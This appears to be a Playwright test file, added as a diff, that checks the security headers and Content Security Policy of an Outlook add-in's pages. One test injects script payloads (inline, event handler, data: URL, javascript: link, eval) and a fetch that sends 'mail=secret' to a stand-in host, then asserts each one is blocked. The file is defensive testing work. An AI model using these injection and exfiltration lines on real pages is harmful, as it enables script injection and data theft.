@@ -1,0 +1,184 @@
+import type { BrowserContext, Frame, Page } from '@playwright/test';
+import { headersOf } from '../../scripts/hosting/headers';
+import { hostingOrigins } from '../../sandbox/office/hosting-origins';
+import { expect, test as base } from './support/fixtures';
+
+const pages = ['taskpane', 'commands', 'dialog', 'redirect', 'relay', 'consent'].map(
+  (name) => `${name}.html`,
+);
+
+/** What browsers report when a page tries what its headers forbid, of all pages and frames of the test. */
+const test = base.extend<{ violations: readonly string[] }>({
+  violations: [
+    async ({ context }, use) => {
+      const violations: string[] = [];
+      await context.exposeBinding('reportViolation', ({ frame }, what: unknown) => {
+        violations.push(`${frame.url().split('?')[0] ?? ''}: ${String(what)}`);
+      });
+      await context.addInitScript(() => {
+        document.addEventListener('securitypolicyviolation', (event) => {
+          window.reportViolation?.(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}`);
+        });
+      });
+      // Some faults, such as a frame that is refused or a header that is not understood, are told to the console only.
+      context.on('console', (message) => {
+        const text = message.text();
+        if (/Content[ -]Security[ -]Policy|Permissions-Policy|Refused to/i.test(text)) violations.push(text);
+      });
+      await use(violations);
+    },
+    { auto: true },
+  ],
+});
+
+declare global {
+  interface Window {
+    reportViolation?: (what: string) => void;
+    /** Set by what must never run. */
+    intruder?: string;
+  }
+}
+
+async function paneFrame(page: Page): Promise<Frame> {
+  const element = await page.getByTitle('Email to To Do', { exact: true }).elementHandle();
+  const frame = await element.contentFrame();
+  if (!frame) throw new Error('The task pane has no frame.');
+  return frame;
+}
+
+async function openedBy(context: BrowserContext, action: () => Promise<void>): Promise<Page> {
+  const opened = context.waitForEvent('page');
+  await action();
+  return opened;
+}
+
+test('every page is served with the headers that hosts are told to send', async ({ request, sandbox }) => {
+  const { origins } = sandbox;
+  for (const path of [...pages, 'manifest.xml', 'assets/icon-64.png', 'nothing.html']) {
+    const response = await request.get(`${origins.addIn}/${path}`);
+    const sent = response.headers();
+    for (const [name, value] of Object.entries(headersOf(path, hostingOrigins(origins)))) {
+      expect.soft(sent[name.toLowerCase()], `${name} of ${path}`).toBe(value);
+    }
+    expect.soft(Object.keys(sent)).not.toContain('x-frame-options');
+    expect.soft(Object.keys(sent)).not.toContain('cross-origin-opener-policy');
+  }
+});
+
+test('nothing that the pane does is against its own headers', async ({ outlook, violations }) => {
+  const { pane } = outlook;
+  await outlook.open({ mail: 'complaint-thanks', isPaneOpen: true, isPinned: true });
+  await expect(pane.getByRole('combobox', { name: 'List' })).toHaveValue('Tasks');
+  await pane.getByRole('button', { name: 'More options' }).click();
+  await pane.getByRole('button', { name: 'Create task' }).click();
+  await expect(pane.getByText('Task created in Tasks.')).toBeVisible();
+  await pane.getByRole('button', { name: 'More actions' }).click();
+  await outlook.page.keyboard.press('Escape');
+  await outlook.openMail('train-booking');
+  await expect(pane.getByRole('textbox', { name: 'Title' })).toBeVisible();
+  expect(violations).toEqual([]);
+});
+
+test('the ribbon command works within its headers', async ({ outlook, violations }) => {
+  await outlook.open({ mail: 'complaint-thanks' });
+  await outlook.runCommand();
+  await expect(outlook.notifications).toContainText('Task added to Tasks.');
+  expect(violations).toEqual([]);
+});
+
+test('signing in by a window works within the headers of its pages', async ({
+  context,
+  outlook,
+  violations,
+}) => {
+  await outlook.open({ mail: 'complaint-thanks', isPaneOpen: true, naa: 'off' });
+  const signIn = outlook.pane.getByRole('button', { name: 'Sign in' });
+  const window = await openedBy(context, () => signIn.click());
+  await window.getByRole('button', { name: 'Adele Vance' }).click();
+  await expect(outlook.pane.getByRole('combobox', { name: 'List' })).toHaveValue('Tasks');
+  expect(violations).toEqual([]);
+});
+
+test('signing in by a dialog of Outlook works within the headers of its page', async ({
+  context,
+  outlook,
+  violations,
+}) => {
+  await context.addInitScript(() => {
+    const open = window.open.bind(window);
+    window.open = (url, name, features) => (name?.startsWith('msal.') ? null : open(url, name, features));
+  });
+  await outlook.open({ mail: 'complaint-thanks', isPaneOpen: true, naa: 'off' });
+  const signIn = outlook.pane.getByRole('button', { name: 'Sign in' });
+  await signIn.click();
+  await expect(outlook.pane.getByRole('alert')).toBeVisible();
+  const dialog = await openedBy(context, () => signIn.click());
+  await dialog.getByRole('button', { name: 'Adele Vance' }).click();
+  await expect(outlook.pane.getByRole('combobox', { name: 'List' })).toHaveValue('Tasks');
+  expect(violations).toEqual([]);
+});
+
+test('a page that anybody can open shows its words within its headers', async ({
+  page,
+  sandbox,
+  violations,
+}) => {
+  for (const path of ['relay.html', 'consent.html?admin_consent=True']) {
+    await page.goto(`${sandbox.origins.addIn}/${path}`);
+    await expect(page.getByRole('heading')).toBeVisible();
+  }
+  expect(violations).toEqual([]);
+});
+
+test('a script that got into the pane does not run', async ({ outlook, violations }) => {
+  await outlook.open({ mail: 'complaint-thanks', isPaneOpen: true });
+  await expect(outlook.pane.getByRole('combobox', { name: 'List' })).toHaveValue('Tasks');
+  const frame = await paneFrame(outlook.page);
+  await frame.evaluate(() => {
+    const inline = document.createElement('script');
+    inline.textContent = 'window.intruder = "inline script"';
+    document.body.append(inline);
+    const handler = document.createElement('img');
+    handler.setAttribute('onerror', 'window.intruder = "event handler"');
+    handler.src = '/nothing.png';
+    document.body.append(handler);
+    const foreign = document.createElement('script');
+    foreign.src = 'data:text/javascript,window.intruder = "data script"';
+    document.body.append(foreign);
+    const link = document.createElement('a');
+    link.href = 'javascript:void(window.intruder = "link")';
+    link.textContent = 'link';
+    document.body.append(link);
+    link.click();
+    // What the test itself evaluates is exempt; what runs later is not.
+    setTimeout(() => {
+      try {
+        // eslint-disable-next-line no-eval -- this is what must fail
+        window.eval('window.intruder = "eval"');
+      } catch {
+        // Refused, as it should be.
+      }
+      fetch('https://elsewhere.example/?mail=secret').catch(() => undefined);
+    });
+  });
+  const reported = () => violations.map((line) => line.split(': ')[1]?.split(' ', 2).join(' '));
+  await expect
+    .poll(reported)
+    .toEqual(
+      expect.arrayContaining([
+        'script-src-elem inline',
+        'script-src-attr inline',
+        'script-src-elem data',
+        'script-src eval',
+        'connect-src https://elsewhere.example/?mail=secret',
+      ]),
+    );
+  expect(await frame.evaluate(() => window.intruder)).toBeUndefined();
+});
+
+test('a page of elsewhere cannot show the pane in a frame', async ({ page, sandbox, violations }) => {
+  // The sign-in service stands for any site that is no Outlook.
+  await page.goto(`${sandbox.origins.signIn}/nothing`);
+  await page.setContent(`<iframe src="${sandbox.origins.addIn}/taskpane.html" title="stolen"></iframe>`);
+  await expect.poll(() => violations.join('\n')).toContain('frame-ancestors');
+});
